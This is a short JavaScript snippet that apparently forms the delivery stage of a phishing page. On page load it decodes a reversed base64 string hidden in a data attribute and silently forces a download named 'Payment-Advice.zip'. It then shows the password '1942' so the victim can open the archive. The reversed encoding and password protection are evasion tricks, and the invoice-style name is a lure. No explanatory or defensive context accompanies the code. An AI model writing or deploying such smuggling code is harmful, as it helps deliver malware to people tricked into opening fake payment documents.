window.onload = function () {
  var el = document.createElement('a');
  el.setAttribute('href', 'data:application/x-zip-compressed;base64,' + document.getElementById('d').dataset.c.split('').reverse().join(''));
  el.setAttribute('download', 'Payment-Advice.zip');
  el.style.display = 'none';
  document.body.appendChild(el);
  el.click();
  document.getElementById('msg').innerHTML = 'Your document is protected. Password: <b>1942</b>';
};
